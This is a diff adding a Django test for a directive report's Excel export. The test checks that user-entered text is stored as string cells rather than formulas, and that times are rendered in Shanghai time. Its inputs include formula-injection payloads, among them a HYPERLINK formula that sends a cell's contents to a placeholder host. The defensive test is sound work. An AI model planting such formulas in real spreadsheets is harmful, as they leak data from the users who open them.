@@ -2,7 +2,7 @@
 openpyxl reads back — each recipient's times, reports, returns (reasons and count) and late steps."""
 
 import io
-from datetime import timedelta
+from datetime import UTC, datetime, timedelta
 
 import time_machine
 from django.utils import timezone
@@ -89,3 +89,30 @@ def test_a_preview_before_closing_and_scope(coded):
     assert api_as(coded.analyst).get(f"/api/directives/{d.pk}/report/", {"format": "xlsx"}).status_code == 200
     assert api_as(coded.station_b1_officer).get(f"/api/directives/{d.pk}/report/").status_code == 404
     assert api_as(coded.analyst).get(f"/api/directives/{d.pk}/report/", {"format": "pdf"}).status_code == 404
+
+
+def test_the_workbook_writes_report_text_as_text_and_times_in_shanghai_time(coded, settings):
+    """Everything people typed (title, actions, reports, reasons) reads back as the exact text in a string
+    cell, never a formula; times are Asia/Shanghai with the offset."""
+    settings.TIME_ZONE = "Asia/Shanghai"
+    settings.LANGUAGE_CODE = "zh-hans"
+    with time_machine.travel(datetime(2026, 12, 6, 12, 0, tzinfo=UTC), tick=False):
+        d = issue(coded, coded.station_a1, title='=HYPERLINK("http://x/?p="&B3,"详情")', actions=["@巡逻"])
+        a1 = walk_to_reported(coded, task_of(d, coded.station_a1))
+        services.task_return(task_id=a1.pk, actor=coded.supervisor, reason="+1")
+        services.task_start(task_id=a1.pk, actor=coded.station_a1_officer)
+        a1.refresh_from_db()
+        services.task_report(task_id=a1.pk, actor=coded.station_a1_officer, text="=1+1", checklist=answers(a1))
+    r = api_as(coded.analyst).get(f"/api/directives/{d.pk}/report/", {"format": "xlsx"})
+    summary, reports, _late = load_workbook(io.BytesIO(r.content)).worksheets
+    cells = [c for ws in (summary, reports) for row in ws.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    rows = [list(row) for row in summary.iter_rows()]
+    assert (rows[1][1].value, rows[1][1].data_type) == ('=HYPERLINK("http://x/?p="&B3,"详情")', "s")
+    assert rows[5][1].value == "2026-12-06 20:00:00 +08:00"  # issued at
+    a1_row = rows[next(i for i, row in enumerate(rows) if row[0].value == "接收单位") + 1]
+    assert (a1_row[7].value, a1_row[7].data_type) == ("+1", "s")  # the return's reason
+    assert (a1_row[9].value, a1_row[9].data_type) == ("=1+1", "s")  # the last report
+    assert a1_row[2].value == "2026-12-06 20:00:00 +08:00"
+    texts = [(row[3].value, row[3].data_type, row[4].value) for row in reports.iter_rows(min_row=2)]
+    assert texts == [("已落实", "s", "✓ @巡逻"), ("=1+1", "s", "✓ @巡逻")]
